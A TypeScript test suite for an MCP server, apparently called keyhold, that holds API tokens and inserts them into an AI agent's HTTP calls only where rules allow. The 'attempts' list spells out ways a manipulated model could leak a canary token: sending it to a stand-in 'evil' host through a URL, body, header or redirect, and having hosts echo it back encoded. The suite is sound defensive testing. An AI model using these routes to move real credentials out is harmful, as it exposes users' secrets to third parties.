import { writeFileSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { type Answer, startWorld, type World } from "../../../test/agents/world.ts";
import { type Canary, createCanary, findCanary } from "../../../test/leak/encodings.ts";
import { command, createWorkspace } from "./support/keyhold.ts";
import { type McpProcess, openMcp, textOf } from "./support/mcp-client.ts";

const { halves, parts } = createCanary();
/** Letters and digits alone, as tokens are. */
const value = halves.join("");
const canary: Canary = { text: value, halves, parts };
const reference = "local://api#token";
const written = `\${${reference}}`;
const bearer = { authorization: `Bearer ${written}` };

let world: World;
let server: McpProcess;
beforeAll(async () => {
  world = await startWorld();
  server = await openKeyhold();
}, 120_000);
beforeEach(() => world.reset());
afterAll(() => world.close());

const api = (rest = "/v1/items") => `https://localhost:${world.api.port}${rest}`;
const evil = (rest = "/") => `https://localhost:${world.evil.port}${rest}`;

/** A workspace whose config lets one secret go to one host, in one header and below one path. */
async function workspace() {
  const made = createWorkspace();
  await made.seed({ api: JSON.stringify({ token: value }) });
  writeFileSync(path.join(made.folder, "ca.pem"), world.ca);
  writeFileSync(
    path.join(made.folder, "keyhold.config.mts"),
    `import { readFileSync } from "node:fs";
     import { defineConfig, local } from "keyhold";
     const host = { host: "localhost", addresses: ["127.0.0.1", "::1"] };
     export default defineConfig({
       providers: { local: local() },
       agents: {
         ca: readFileSync("ca.pem", "utf8"),
         allow: [
           { ...host, reference: "${reference}", port: ${world.api.port}, path: "/v1", header: "authorization" },
           { ...host, reference: "local://other", port: ${world.evil.port}, methods: ["POST"], query: "key" },
         ],
       },
     });`,
  );
  return made;
}

async function openKeyhold(): Promise<McpProcess> {
  const { folder, env } = await workspace();
  return openMcp([...command, "mcp", "serve"], { cwd: folder, env });
}

async function openNaive(): Promise<McpProcess> {
  const { folder, env } = await workspace();
  const server = fileURLToPath(new URL("./fixtures/naive-mcp-server.ts", import.meta.url));
  const NODE_EXTRA_CA_CERTS = path.join(folder, "ca.pem");
  return openMcp([process.execPath, server], { cwd: folder, env: { ...env, NODE_EXTRA_CA_CERTS, API_TOKEN: value } });
}

/** What the key's host does: it hands back what it got, in one way or another. */
const echo = (encode: (authorization: string) => string): Answer => {
  return ({ headers }, response) => response.end(`you sent ${encode(headers.authorization ?? "")}`);
};
const base64 = (text: string) => Buffer.from(text).toString("base64");

/** What a model might be talked into, and what the key's host might answer. */
const attempts: readonly (readonly [name: string, words: () => Readonly<Record<string, unknown>>, answer?: Answer])[] = [
  ["an echo", () => ({ url: api(), headers: bearer }), echo((text) => text)],
  ["an echo in base64", () => ({ url: api(), headers: bearer }), echo(base64)],
  ["an echo in hex", () => ({ url: api(), headers: bearer }), echo((text) => Buffer.from(text).toString("hex"))],
  ["an echo as JSON escapes", () => ({ url: api(), headers: bearer }), echo((text) => JSON.stringify({ text }))],
  [
    "an echo in pieces",
    () => ({ url: api(), headers: bearer }),
    ({ headers }, response) => {
      const text = headers.authorization ?? "";
      response.write(text.slice(0, 20));
      setTimeout(() => response.end(text.slice(20)), 50);
    },
  ],
  [
    "an echo in headers",
    () => ({ url: api(), headers: bearer }),
    ({ headers }, response) =>
      response.writeHead(200, { "x-token": headers.authorization, "set-cookie": `t=${headers.authorization}` }).end(),
  ],
  [
    "a redirect to somebody else that takes the value along",
    () => ({ url: api(), headers: bearer }),
    ({ headers }, response) =>
      response.writeHead(302, { location: evil(`/?t=${encodeURIComponent(headers.authorization ?? "")}`) }).end(),
  ],
  ["another host", () => ({ url: evil("/v1"), headers: bearer })],
  [
    "another header",
    () => ({ url: api(), headers: { "x-other": written } }),
    (request, response) => response.end(JSON.stringify(request.headers)),
  ],
  ["another path", () => ({ url: api("/debug"), headers: bearer }), echo((text) => text)],
  ["the query of a URL", () => ({ url: evil(`/?q=${written}`) })],
  ["the path of a URL", () => ({ url: evil(`/${written}`) })],
  ["a body", () => ({ method: "POST", url: evil(), body: `the key is ${written}` })],
  ["an error that quotes the URL", () => ({ url: `https://${written}:99999999/` })],
  ["an error that quotes a header", () => ({ url: api(), headers: { authorization: `Bearer ${written}\nx` } })],
  ["a list of all there is", () => ({})],
];

/** How many of the attempts hand the value to the model, its client's log or another host. */
async function leaks(process: McpProcess): Promise<readonly string[]> {
  const found: string[] = [];
  for (const [name, words, answer] of attempts) {
    world.reset();
    if (answer) world.api.answer = answer;
    const before = process.stdout().length;
    const call = words();
    const result = await process.call("url" in call ? "call_http" : "list_references", call);
    const seen = [JSON.stringify(result), process.stdout().subarray(before), process.stderr(), world.evil.bytes()];
    if (seen.some((sink) => findCanary(sink, canary).length > 0)) found.push(name);
  }
  return found;
}

describe("keyhold mcp serve", { timeout: 120_000 }, () => {
  it("has two tools, neither of which gives a value, and puts one in where the rule says", async () => {
    const { tools } = await server.client.listTools();
    expect(tools.map(({ name }) => name)).toEqual(["list_references", "call_http"]);
    expect(JSON.parse(textOf(await server.call("list_references")))).toEqual({
      references: [
        { reference, uses: [{ url: api("/v1/"), write: `header authorization: Bearer ${written}` }] },
        {
          reference: "local://other",
          uses: [{ url: evil("/"), methods: ["POST"], write: `query parameter key=\${local://other}` }],
        },
      ],
    });
    const body = '{"a":1}';
    const result = await server.call("call_http", { method: "PUT", url: api(), headers: { ...bearer, "x-a": "b" }, body });
    expect(result.isError).toBeUndefined();
    expect(JSON.parse(textOf(result))).toMatchObject({
      status: 200,
      headers: { "content-type": "application/json" },
      body: '{"ok":true}',
    });
    expect(world.api.requests).toMatchObject([
      { method: "PUT", path: "/v1/items", body, headers: { authorization: `Bearer ${value}`, "x-a": "b" } },
    ]);
  });

  it("hands the value to nobody, whatever a model asks and the host answers; a naive server does", async () => {
    expect(await leaks(server)).toEqual([]);
    expect(findCanary(server.stdout(), canary)).toEqual([]);
    expect(server.stderr()).toBe("");
    const naive = await openNaive();
    const plain = await leaks(naive);
    console.log(`${attempts.length} attempts over MCP: 0 leak; naive server: ${plain.length}`);
    expect(plain.length).toBeGreaterThanOrEqual(attempts.length - 3);
  });

  it("tells the model what is wrong with a call by code, with what to do", async () => {
    const errorOf = async (words: Readonly<Record<string, unknown>>) => {
      const result = await server.call("call_http", words);
      expect(result.isError).toBe(true);
      return JSON.parse(textOf(result)).error;
    };
    const hint = expect.any(String);
    expect(await errorOf({ url: evil(), headers: bearer })).toMatchObject({ code: "permission-denied", reference, hint });
    expect(await errorOf({ url: "https://example.com/" })).toMatchObject({ code: "permission-denied", hint });
    const unknown = { authorization: `Bearer \${local://nope}` };
    expect(await errorOf({ url: api(), headers: unknown })).toMatchObject({
      code: "permission-denied",
      reference: "local://nope",
    });
    const missing = { method: "POST", url: evil(`/?key=\${local://other}`) };
    expect(await errorOf(missing)).toMatchObject({ code: "not-found", reference: "local://other", retryable: false });
    expect(await errorOf({ url: "nonsense" })).toMatchObject({ code: "invalid-argument" });
    expect((await server.call("call_http", { url: 5 })).isError).toBe(true);
    expect(world.api.requests).toEqual([]);
  });

  it("ends with status 0 when the client closes its end, and on a signal, also with a call under way", async () => {
    const [one, other] = await Promise.all([openKeyhold(), openKeyhold()]);
    const arrived = new Promise<void>((resolve) => {
      world.api.answer = () => resolve();
    });
    const pending = one.call("call_http", { url: api(), headers: bearer }).catch(() => "ended");
    await arrived;
    expect(await one.end()).toBe(0);
    await pending;
    expect(await other.signal("SIGTERM")).toBe(0);
    expect([one.stderr(), other.stderr()]).toEqual(["", ""]);
  });

  it("says what to install where the protocol's package is not there", async () => {
    const { folder, keyhold } = createWorkspace();
    const agents = { allow: [{ reference: "env://TOKEN", host: "example.com", header: "authorization" }] };
    const config = { providers: { env: { kind: "environment" } }, agents };
    writeFileSync(path.join(folder, "keyhold.config.json"), JSON.stringify(config));
    const hook = `import { registerHooks } from "node:module";
      registerHooks({ resolve(name, context, next) {
        if (name.startsWith("@modelcontextprotocol/")) throw new Error("not there");
        return next(name, context);
      } });`;
    writeFileSync(path.join(folder, "without.mjs"), hook);
    const outcome = await keyhold(["mcp", "serve"], { env: { NODE_OPTIONS: `--import ${path.join(folder, "without.mjs")}` } });
    expect(outcome).toMatchObject({ status: 1, stdout: "" });
    expect(outcome.stderr).toMatch(/^keyhold: unsupported: .*@modelcontextprotocol\/sdk is not installed\nhint: .*npm install/);
  });

  it("does not start without rules, or with rules that are none, and says nothing on standard output; doctor tells too", async () => {
    const { folder, keyhold } = createWorkspace();
    const json = (agents?: object) =>
      writeFileSync(
        path.join(folder, "keyhold.config.json"),
        JSON.stringify({ providers: { env: { kind: "environment" } }, agents }),
      );
    json({});
    const without = await keyhold(["mcp", "serve"]);
    expect(without).toMatchObject({ status: 1, stdout: "" });
    expect(without.stderr).toMatch(/^keyhold: invalid-argument: the config has no rules.*\nhint: .*allow/);
    json({ allow: [{ reference: "env://TOKEN", header: "authorization" }] });
    const wrong = await keyhold(["mcp", "serve"]);
    expect(wrong).toMatchObject({ status: 1, stdout: "" });
    expect(wrong.stderr).toContain("rule 1 of allow has no host");
    json({ allow: [{ reference: "aws://token", host: "example.com", header: "authorization" }] });
    const examined = await keyhold(["doctor"]);
    expect(examined).toMatchObject({ status: 1, stdout: expect.stringContaining("a rule names the provider aws") });
    json({ allow: [{ reference: "env://TOKEN", host: "example.com", header: "authorization" }] });
    expect(await keyhold(["doctor"])).toMatchObject({ status: 0, stdout: expect.stringContaining("egress rules") });
  });
});
